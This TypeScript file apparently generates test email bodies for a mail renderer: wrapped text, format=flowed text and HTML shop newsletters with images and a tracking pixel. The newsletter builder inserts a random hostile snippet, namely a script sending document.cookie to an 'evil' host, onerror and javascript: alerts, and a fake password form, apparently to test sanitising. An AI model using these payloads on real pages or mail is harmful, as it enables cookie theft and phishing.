import type { Letter } from './mail-phrases.ts';
import type { SeededRandom } from './random.ts';

const lineWidth = 72;

/** A letter as plain text in lines of at most 72 characters, paragraphs apart. */
export function wrapped(letter: Letter): string {
  return `${letter.paragraphs.map((paragraph) => lines(paragraph).join('\r\n')).join('\r\n\r\n')}\r\n`;
}

/** A letter as format=flowed (RFC 3676): soft line ends have a space before them, and a quote to flow along. */
export function flowed(letter: Letter): string {
  const soft = letter.paragraphs.map((paragraph) => lines(paragraph).join(' \r\n'));
  return `> Did you get my last letter? It must have gone out with the late \r\n> boat.\r\n\r\n${soft.join('\r\n\r\n')}\r\n`;
}

function lines(paragraph: string): string[] {
  const result: string[] = [];
  let line = '';
  for (const word of paragraph.split(' ')) {
    if (line !== '' && line.length + 1 + word.length > lineWidth) {
      result.push(line);
      line = '';
    }
    line += line === '' ? word : ` ${word}`;
  }
  return [...result, line];
}

/** A letter as an HTML page, with more HTML behind it. */
export function html(letter: Letter, more: string): string {
  const paragraphs = letter.paragraphs.map((paragraph) => `<p>${escapeHtml(paragraph)}</p>`);
  return `<!DOCTYPE html>\r\n<html><head><meta charset="utf-8"></head>\r\n<body style="font-family: sans-serif">\r\n${paragraphs.join('\r\n')}\r\n${more}\r\n</body></html>\r\n`;
}

/** What a shop sends: tables and styles, and remote pictures, a tracking pixel and scripts that must never do anything. */
export function newsletterHtml(input: {
  readonly letter: Letter;
  readonly random: SeededRandom;
  readonly domain: string;
}): string {
  const { letter, random, domain } = input;
  const offers = Array.from({ length: random.integer(3, 8) }, (_, index) => {
    const price = `${random.integer(5, 400)}.${random.integer(10, 99)}`;
    return (
      `<td style="padding:12px;border:1px solid #d0d7de" bgcolor="#f6f8fa"><img src="https://img.${domain}/o/${index}.jpg"` +
      ` width="120" height="80" alt="Offer ${index + 1}"><br><b>${price} €</b><br>` +
      `<a href="https://www.${domain}/o/${index}?utm_source=mail&amp;id=${random.integer(1e6, 9e6)}">Have a look</a></td>`
    );
  });
  const hostile = random.pick([
    `<script>document.location='https://evil.${domain}/?c='+document.cookie</script>`,
    `<img src=x onerror="alert('ahoy')">`,
    `<a href="javascript:alert(1)">Unsubscribe</a>`,
    `<svg onload="alert(1)"><circle r="4"/></svg><style>@import url(https://css.${domain}/a.css);</style>`,
    `<iframe src="https://www.${domain}/frame"></iframe><form action="https://www.${domain}/login"><input name="password"></form>`,
  ]);
  const pixel = `<img src="https://track.${domain}/open?u=${random.integer(1, 1e9)}" width="1" height="1" alt="">`;
  const table = `<table width="600" align="center" cellspacing="0"><tr>${offers.join('</tr>\r\n<tr>')}</tr></table>`;
  return html(letter, `${table}\r\n${hostile}\r\n${pixel}`);
}

function escapeHtml(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}
